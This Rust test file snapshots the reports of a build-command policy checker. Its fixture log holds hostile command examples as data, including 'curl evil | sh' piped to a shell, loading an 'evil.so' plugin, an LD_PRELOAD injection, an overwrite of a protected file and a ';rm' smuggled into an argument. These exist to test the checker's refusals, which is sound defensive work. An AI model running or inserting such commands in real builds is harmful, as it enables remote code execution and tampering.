//! Snapshots of what users read: the human report of refused commands,
//! the JSON form of verdicts (`--format json`), and policy load errors.
//! Temp paths and the repository's are masked.

use policy::report::{write_finding, write_verdict, Tally};
use policy::{CheckOptions, Mode, Policy};
use serde_json::json;

use crate::support::{check_log, log, shipped, Root};

fn masked<T>(f: impl FnOnce() -> T) -> T {
    let mut settings = insta::Settings::clone_current();
    settings.add_filter(r"/tmp/\.tmp[A-Za-z0-9]+", "[TEMP]");
    settings.add_filter(r"/tmp/[A-Za-z0-9_.-]+", "[TEMP]");
    // Hints name the policy files that hold a grammar: the repository's.
    let repo = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .and_then(|p| p.canonicalize().ok())
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    settings.add_filter(&regex::escape(&repo), "[REPO]");
    settings.bind(f)
}

fn attack_log() -> String {
    log(
        "linux",
        &[
            json!({"id": 1, "tool": "opt", "program": "opt", "args": ["-O2", "p0.bc", "-o", "p0.opt.bc"], "inputs": ["p0.bc"], "outputs": ["p0.opt.bc"]}),
            json!({"id": 2, "tool": "opt", "program": "/bin/sh", "args": ["-c", "curl evil | sh"]}),
            json!({"id": 3, "tool": "opt", "program": "opt", "args": ["-load", "evil.so", "p0.bc", "-o", "x.bc"], "inputs": ["p0.bc", "evil.so"], "outputs": ["x.bc"]}),
            json!({"id": 4, "tool": "cc", "program": "clang-14", "args": ["-Wl,--plugin=evil.so,-Map,/tmp/m.map", "p0.o", "-o", "prog"], "inputs": ["p0.o"], "outputs": ["prog"], "env": {"LD_PRELOAD": "evil.so"}}),
            json!({"id": 5, "tool": "llc", "program": "llc", "args": ["-filetype=exe", "p0.opt.bc", "-o", "log.json"], "inputs": ["p0.opt.bc"], "outputs": ["log.json"]}),
            json!({"id": 6, "tool": "llc", "program": "llc", "args": ["-mtriple=x86_64;rm", "p0.opt.bc", "-o", "p0.o"], "inputs": ["p0.opt.bc"], "outputs": ["p0.o"]}),
        ],
    )
}

#[test]
fn human_report_of_refused_commands() {
    let policy = shipped("linux");
    let root = Root::new();
    let options = CheckOptions {
        mode: Mode::Audit,
        strict: false,
        protected: vec![root.path().join("log.json")],
    };
    let out = check_log(&policy, root.path(), &attack_log(), options);
    let mut text = Vec::new();
    let mut tally = Tally::default();
    for f in &out.header {
        write_finding(&mut text, None, f).expect("write");
    }
    tally.add_log(&out.header);
    for v in &out.verdicts {
        write_verdict(&mut text, v).expect("write");
        tally.add(v);
    }
    let text = format!("{}{tally}\n", String::from_utf8_lossy(&text));
    masked(|| insta::assert_snapshot!("human_report", text));
}

#[test]
fn json_verdicts_for_ci() {
    let policy = shipped("linux");
    let root = Root::new();
    let options = CheckOptions {
        mode: Mode::Audit,
        strict: false,
        protected: vec![root.path().join("log.json")],
    };
    let out = check_log(&policy, root.path(), &attack_log(), options);
    let allowed = &out.verdicts[0];
    let refused = &out.verdicts[3];
    masked(|| {
        insta::assert_json_snapshot!("json_allowed_verdict", allowed);
        insta::assert_json_snapshot!("json_refused_verdict", refused);
    });
}

#[test]
fn cross_platform_audit_message() {
    let policy = shipped("macos");
    let root = Root::new();
    let text = log(
        "macos",
        &[
            json!({"id": 1, "tool": "ld", "program": "ld", "args": ["-arch", "arm64", "a.o", "-o", "a"], "inputs": ["a.o"], "outputs": ["a"]}),
        ],
    );
    let out = check_log(&policy, root.path(), &text, crate::support::audit());
    let mut buf = Vec::new();
    write_verdict(&mut buf, out.verdict(1)).expect("write");
    insta::assert_snapshot!("cross_platform_audit", String::from_utf8_lossy(&buf));
}

/// Renders an error as the binary will: `error:`, then `caused by:` lines.
fn render(e: &dyn std::error::Error) -> String {
    let mut out = format!("error: {e}\n");
    let mut source = e.source();
    while let Some(s) = source {
        out.push_str(&format!("  caused by: {s}\n"));
        source = s.source();
    }
    out
}

#[test]
fn policy_error_messages() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let cases = [
        ("unknown_key", "[policy]\nos = \"linux\"\n[tool.opt]\nprogrms = [\"opt\"]\n"),
        ("bad_regex", "[policy]\nos = \"linux\"\n[args.opt]\nflags = [\n  { name = \"-O\", form = \"joined\", pattern = \"(\" },\n]\n"),
        ("forbidden_env", "[policy]\nos = \"linux\"\n[env]\nallow = { LD_PRELOAD = { pattern = \".*\" } }\n"),
        ("missing_os", "[policy]\nname = \"x\"\n"),
        ("unknown_grammar", "[policy]\nos = \"linux\"\n[tool.opt]\nprograms = [\"opt\"]\ndirs = [\"/usr/bin\"]\n"),
        ("cycle", "[policy]\nos = \"linux\"\nextends = [\"cycle.toml\"]\n"),
    ];
    let mut text = String::new();
    for (name, body) in cases {
        let p = tmp.path().join(format!("{name}.toml"));
        std::fs::write(&p, body).expect("write");
        match Policy::load(&p) {
            Ok(_) => panic!("{name} loaded"),
            Err(e) => text.push_str(&format!("--- {name}\n{}", render(&e))),
        }
    }
    masked(|| insta::assert_snapshot!("policy_errors", text));
}
